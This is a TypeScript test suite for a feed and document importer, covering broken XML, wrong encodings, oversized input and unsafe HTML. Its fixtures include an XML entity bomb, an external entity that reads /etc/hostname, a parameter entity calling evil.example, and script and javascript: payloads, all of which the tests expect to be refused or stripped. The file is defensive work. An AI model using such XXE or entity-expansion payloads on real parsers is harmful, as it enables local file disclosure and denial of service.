/** Files that are broken, hostile, huge or wrongly labelled: told of, and nothing half-read. */
import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { createWriteStream } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import iconv from 'iconv-lite';
import { afterAll, describe, expect, test } from 'vitest';
import { readLines } from '../../import-export/readers/decoding.ts';
import { toMarkdown } from '../../import-export/readers/html-to-markdown.ts';
import { folder, hear, hearOne, removeFolder, write } from './reading.ts';
import { wordpressExport } from './wordpress-archive.ts';

afterAll(removeFolder);

const item = (body: string) =>
  `<item><guid>1</guid><title>T</title><pubDate>Wed, 01 Jul 2009 10:00:00 GMT</pubDate><description>${body}</description></item>`;
const rss = (body: string, before = '') =>
  `${before}<rss version="2.0"><channel>${item(body)}</channel></rss>`;

describe('of a broken XML file nothing is used, and its line is told', () => {
  const whole = wordpressExport(40);
  test.each([
    [
      'an export cut off within a post',
      whole.slice(0, Math.floor(whole.length * 0.8)),
      /^line \d+: unclosed tag/,
    ],
    [
      'a feed cut off between items',
      rss('a').replace('</channel></rss>', ''),
      /^line 1: unclosed tag/,
    ],
    ['tags that cross', rss('<b><i></b></i>'), /^line 1: unexpected close tag/],
    ['an entity of HTML', rss('a&nbsp;b'), /^line 1: undefined entity/],
    [
      'something else',
      '<?xml version="1.0"?><opml><a/></opml>',
      /not known here: its root is <opml>/,
    ],
    ['a declaration alone', '<?xml version="1.0"?>', /document must contain a root element/],
  ])('%s', async (_what, text, reason) => {
    await expect(hear(await write('broken.xml', text))).rejects.toThrow(reason);
  });
});

test.each([
  [
    'a bomb',
    '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '&b;',
  ],
  ['a file of this machine', '<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/hostname">]>', '&f;'],
  ['a parameter entity', '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>', 'x'],
])('entities are refused, not expanded: %s', async (_what, doctype, body) => {
  const file = await write('entities.xml', rss(body, doctype));
  await expect(hear(file)).rejects.toThrow('defines entities, which are not expanded');
});

describe('encodings: the bytes have the last word', () => {
  const text = rss('Café “open”, naïve');
  const heard = async (bytes: Uint8Array) => {
    const { items, left } = await hear(await write('encoded.xml', bytes));
    return [items[0]?.release.editions.en?.markdown, left.map(({ leftOut }) => leftOut)];
  };
  const declared = (name: string) => `<?xml version="1.0" encoding="${name}"?>${text}`;
  const right = 'Café “open”, naïve';

  test('what is declared rightly', async () => {
    expect(await heard(Buffer.from(declared('utf-8')))).toEqual([right, []]);
    expect(await heard(iconv.encode(declared('windows-1252'), 'windows-1252'))).toEqual([
      right,
      [],
    ]);
    expect(await heard(iconv.encode(declared('utf-16'), 'utf-16le', { addBOM: true }))).toEqual([
      right,
      [],
    ]);
    expect(await heard(iconv.encode(declared('utf-16'), 'utf-16be', { addBOM: true }))).toEqual([
      right,
      [],
    ]);
  });

  test('what is declared wrongly or not at all is told', async () => {
    expect(await heard(iconv.encode(declared('UTF-8'), 'windows-1252'))).toEqual([
      right,
      ['is declared as utf-8, but is not: read as windows-1252'],
    ]);
    expect(await heard(Buffer.from(declared('ISO-8859-1')))).toEqual([
      right,
      ['is declared as iso-8859-1, but is UTF-8: read as UTF-8'],
    ]);
    expect(await heard(iconv.encode(text, 'utf-16le'))).toEqual([right, []]);
    expect(await heard(iconv.encode(text, 'windows-1252'))).toEqual([
      right,
      ['is not UTF-8 and declares no encoding: read as windows-1252'],
    ]);
  });
});

describe('what is too much', () => {
  test('a part of XML that does not end is given up, without being held', async () => {
    const path = join(folder, 'endless.xml');
    const file = createWriteStream(path);
    file.write('<rss version="2.0"><channel><item><title>');
    for (let piece = 0; piece < 40; piece++) file.write('x'.repeat(1024 * 1024));
    file.end();
    await once(file, 'finish');
    await expect(hear(path)).rejects.toThrow('an element is too large');
  });

  test('a line without an end is one bad line', async () => {
    async function* pieces() {
      yield 'short\n';
      for (let piece = 0; piece < 100; piece++) yield 'y'.repeat(50);
      yield '\nlast';
    }
    const lines: [number, string | null][] = [];
    for await (const line of readLines(pieces(), 1000)) lines.push(line);
    expect(lines).toEqual([
      [1, 'short'],
      [2, null],
      [3, 'last'],
    ]);
  });

  test('HTML that nests without end is one bad item', async () => {
    const deep = `${'<div>'.repeat(5000)}x`;
    const line = (body: string, uri: string) =>
      JSON.stringify({
        uri,
        versioncreated: '2015-03-02T09:00:00Z',
        headline: 'H',
        body_html: body,
      });
    const { items, refused } = await hear(
      await write('deep.ndjson', `${line(deep, 'a')}\n${line('<p>b</p>', 'b')}`),
    );
    expect([items.length, refused.map(({ reason }) => reason)]).toEqual([1, ['nests too deeply']]);
  });

  test('an export of 60 MB is read with less memory than it has bytes', async () => {
    const path = join(folder, 'large.xml');
    const file = createWriteStream(path);
    const text = wordpressExport(20);
    const end = text.indexOf('</channel>');
    file.write(text.slice(0, end));
    const filler = `<item><title>m</title><content:encoded><![CDATA[${'words '.repeat(10_000)}]]></content:encoded><wp:post_type>nav_menu_item</wp:post_type></item>\n`;
    for (let times = 0; times < 1000; times++) file.write(filler);
    file.end(text.slice(end));
    await once(file, 'finish');
    const readers = join(import.meta.dirname, '../../import-export/readers/formats.ts');
    const program = `
      import { readParseResults } from ${JSON.stringify(readers)};
      let found = 0;
      for await (const finding of readParseResults(${JSON.stringify(path)}, null)) if (!('leftOut' in finding)) found++;
      console.log(found);`;
    const limited = ['--max-old-space-size=48', '--input-type=module', '--eval', program];
    const { stdout } = await promisify(execFile)(process.execPath, limited);
    expect(Number(stdout)).toBe(15);
  });
});

test('a file that is empty, or no text at all, is told', async () => {
  await expect(hear(await write('empty.xml', ''))).rejects.toThrow('is empty');
  await expect(
    hear(await write('picture.txt', Buffer.from([1, 0, 2, 0, 0, 0, 3, 0]))),
  ).rejects.toThrow('not text');
});

test('nothing in HTML gets through as HTML, and each thing that is lost has its name', () => {
  const { markdown, losses } = toMarkdown(
    `<p onclick="x()">A<script>alert(1)</script> <a href="javascript:alert(1)">b</a> <a href="#top">top</a></p>
     <form><input name="q"></form><svg><script>1</script></svg><p>x<sup>2</sup> &lt;img src=x&gt;</p>
     <table><tr><td colspan="2">wide</td></tr><tr><td>a</td><td>b</td></tr></table><img src="data:image/png;base64,AA" alt="dot">`,
    { base: null },
  );
  expect(markdown).toBe(
    'A b top\n\nx² \\<img src=x>\n\n| | |\n| - | - |\n| wide | |\n| a | b |\n\ndot',
  );
  expect(losses).toHaveLength(7);
});

test('an item of a feed whose text is empty is refused for that', async () => {
  const { refused } = await hear(await write('void.xml', rss('<![CDATA[<script>1</script>]]>')));
  expect(refused.map(({ reason }) => reason)).toEqual([
    '/editions/en/markdown must not be empty in what is published',
  ]);
});

test('a page that nests too deeply is refused before it is read', async () => {
  const file = await write('deep.html', `<html><body>${'<div>'.repeat(5000)}x`);
  await expect(hear(file)).rejects.toThrow('nests too deeply');
});

test('a page of nothing but navigation is told', async () => {
  const page = '<!doctype html><html><body><nav><a href="/">Home</a></nav></body></html>';
  await expect(hearOne(await write('nav.html', page))).rejects.toThrow();
});

describe('bytes that are not UTF-8, in a file that is', () => {
  /** The bytes of a text in which each mark is a byte that begins a sequence without an end. */
  const broken = (text: string, mark = '@') =>
    Buffer.concat(
      text
        .split(mark)
        .flatMap((part, at) => [Buffer.from(at > 0 ? [0xd0] : []), Buffer.from(part)]),
    );
  const note = 'has a byte that is not UTF-8, read as \uFFFD: line 3';

  test('a feed has U+FFFD at that place, and the line is told', async () => {
    const file = await write('bad-byte.xml', broken(rss('Встреча.\n\nВ @ встреча.')));
    const { items, left } = await hear(file);
    expect(items.map(({ release }) => release.editions.en?.markdown)).toEqual([
      'Встреча. В \uFFFD встреча.',
    ]);
    expect(left.map(({ leftOut }) => leftOut)).toEqual([note]);
  });

  test('a WordPress export is not read as something else', async () => {
    const file = await write('bad-export.xml', broken(wordpressExport(40), ' flood bank today'));
    const { items, left } = await hear(file);
    const { editions } = items.find(({ title }) => title === 'A post of blocks')?.release ?? {};
    expect(editions?.en?.markdown).toContain('walked the\uFFFD. **None**');
    expect(left.map(({ leftOut }) => leftOut).join()).toMatch(
      /not UTF-8, read as \uFFFD: line \d+/,
    );
  });

  const long = 'Встреча прошла в столице и закончилась вечером. '.repeat(20);
  test.each([
    [
      'page.html',
      `<html lang="ru"><head><title>Встреча</title>
      <meta property="article:published_time" content="2020-05-05"></head>
      <body><article><h1>Встреча</h1><p>@ ${long}</p></article></body></html>`,
    ],
    ['text.txt', 'Встреча\nDate: 1 July 2009\n@ Встреча прошла.'],
    [
      'release.json',
      `{ "kind": "press-release", "date": "2009-07-01",
         "editions": { "ru": { "title": "Встреча",
         "markdown": "Встреча @" } } }`,
    ],
  ])('it is told with %s', async (name, source) => {
    const { items, left } = await hear(await write(`bad/${name}`, broken(source)));
    expect(JSON.stringify(items[0]?.release.editions)).toContain('\uFFFD');
    expect([...(items[0]?.notes ?? []), ...left.map(({ leftOut }) => leftOut)]).toContain(note);
  });

  test('all of their lines are told, also after a byte order mark', async () => {
    const file = await write('two.xml', broken(rss(`${'Встреча '.repeat(100)}\n@\n@`, '\ufeff')));
    expect((await hear(file)).left.map(({ leftOut }) => leftOut)).toEqual([
      'has 2 sequences of bytes that are not UTF-8, read as \uFFFD: lines 2, 3',
    ]);
  });

  test('the proportion decides: bytes that are a valid sequence by chance do not', async () => {
    const western = iconv.encode(rss('É» Café naïve déjà été'), 'windows-1252');
    const { items } = await hear(await write('western.xml', western));
    expect(items[0]?.release.editions.en?.markdown).toBe('É» Café naïve déjà été');
    const chinese = iconv.encode(rss('新闻办公室今天宣布开设登记处'), 'gbk');
    const { left } = await hear(await write('chinese.xml', chinese));
    expect(left[0]?.leftOut).toContain('read as windows-1252');
  });
});
